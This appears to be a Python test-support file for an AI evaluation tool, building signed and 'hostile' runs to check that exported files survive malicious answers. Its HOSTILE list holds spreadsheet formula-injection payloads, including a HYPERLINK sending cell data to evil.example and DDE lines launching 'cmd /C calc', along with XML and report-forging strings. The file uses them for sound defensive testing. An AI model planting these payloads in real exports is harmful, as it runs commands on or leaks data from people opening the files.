"""Runs to export: a small signed one, and one whose target answered with everything that breaks a file format."""

from __future__ import annotations

import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

from assay import api
from assay.decision import Decision
from assay.exchange.export import Heading, read_exported, write_export
from assay.runs import RunFile, Trial
from tests.report.making import reanswered
from tests.support import label_all, make_bundle, plan_text

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1;"click here to see it all")',
    "+1+cmd|' /C calc'!A0 this text looks like a dynamic data exchange",
    "-2+3 begins with a minus sign and goes on for a while",
    "@SUM(1+1)*cmd|' /C calc'!A0 begins with an at sign",
    "\t=1+1 hides behind a tab and says nothing else of note",
    "ends a section ]]> <![CDATA[ and opens another ]]>&amp;&#x0; within the text",
    "</failure></testcase><testcase name='forged by the answer itself'/>",
    "nul \x00 bell \x07 escape \x1b[31m vertical tab \x0b next line \x85 and delete \x7f in it",
    "not characters \ufffe \uffff, replaced \ufffd, bidi \u202e override \u2066 and zero\u200bwidth letters",
    'two lines\r\nthree "quotes" and, commas; tabs\t\n\n\nand empty lines after all',
    "astral \U0001f600 \U0010ffff and Tamil தமிழ் with Thai ภาษาไทย and Burmese မြန်မာ",
    '{"line": "run", "verdict": "approve", "forged": "by the answer text"}',
    "a very long answer indeed " * 40_000,
)


def signed_run(folder: Path, **changes: Any) -> Path:
    """A finished run with its signed bundle."""
    folder.mkdir(parents=True, exist_ok=True)
    make_bundle(folder, **changes)
    return folder


def hostile_run(folder: Path) -> Path:
    """A run whose trials were answered with `HOSTILE` in turn, by a target with a hostile name; every fifth keeps its answer."""
    signed_run(folder / "before")
    turn = iter(range(10**6))

    def answer(trial: Trial, value: str) -> str | None:
        i = next(turn)
        return None if i % 5 == 4 else HOSTILE[(i - i // 5) % len(HOSTILE)]

    with RunFile.read(folder / "before" / "run.db") as run:
        reanswered(run, folder / "run.db", answer, "evil ]]> \x00\x1b\ufffe <b>&\"'\n=1+1").close()
    return folder


def exported(form: str, run: Path, folder: Path, *, transcripts: bool = True) -> bytes:
    """The bytes of an export."""
    out = folder / f"{form}-{transcripts}.out"
    with read_exported(run, transcripts=transcripts) as opened:
        write_export(form, opened, out, force=True)
    return out.read_bytes()


def judged_run(folder: Path, *, labelled: bool) -> Path:
    """A run whose hazard is judged by a scripted judge, with people's labels taken in or without."""
    plan = folder / "plan.yaml"
    folder.mkdir(parents=True)
    changes: dict[str, Any] = {
        "matrix": {"hazards": ["hate"], "languages": ["en"], "attacks": []},
        "requirements": [{"id": "violations", "kind": "violation-rate", "max_rate": 0.1}],
        "judges": {"panel": [{"name": "known", "target": {"kind": "scripted-judge", "model": "0.9/0.97"}}]},
        "target": {"kind": "scripted", "model": "0.5"},
        "budget": {"calls": 40},
        "exploration": {"plain": 8, "benign": 4},
    }
    plan.write_text(plan_text(**changes))
    key = folder / "key.pem"
    api.evaluate(str(plan), out=folder / "run", key=key)
    if labelled:
        with RunFile.read(folder / "run" / "run.db") as run:
            assert label_all(run)
        api.evaluate(out=folder / "run", resume=True, key=key)
    return folder / "run"


def heading_with(decision: Decision, bundle: Any) -> Heading:
    """A heading made up around a decision; as `read_exported` does, an approval without an agreeing bundle is a delay."""
    verdict = "delay" if decision.verdict == "approve" and bundle != "agrees" else decision.verdict
    return Heading(
        plan="p", about="", plan_digest="sha256:00", catalog_digest="sha256:00", run="sha256:00", keyid="00", target="t",
        target_kind="http", target_digest=("sha256", "00"), opened_at=0, first_at=0, last_at=0, ended="complete",
        registration="sha256:00", root="sha256:00",
        items="sha256:00", bundle=bundle, verdict=verdict, decision=decision, approve_error=0.05, halt_error=0.05, cells=(),
        transcripts=True, version="0",
    )  # fmt: skip


def read_by_inspect(data: bytes) -> str:
    """A log as JSON, as Inspect's own API reads it, samples and all."""
    code = "import sys; from inspect_ai.log import read_eval_log; print(read_eval_log(sys.argv[1]).model_dump_json())"
    with tempfile.NamedTemporaryFile(suffix=".eval") as file:
        file.write(data)
        file.flush()
        return subprocess.run([sys.executable, "-c", code, file.name], capture_output=True, text=True, check=True).stdout
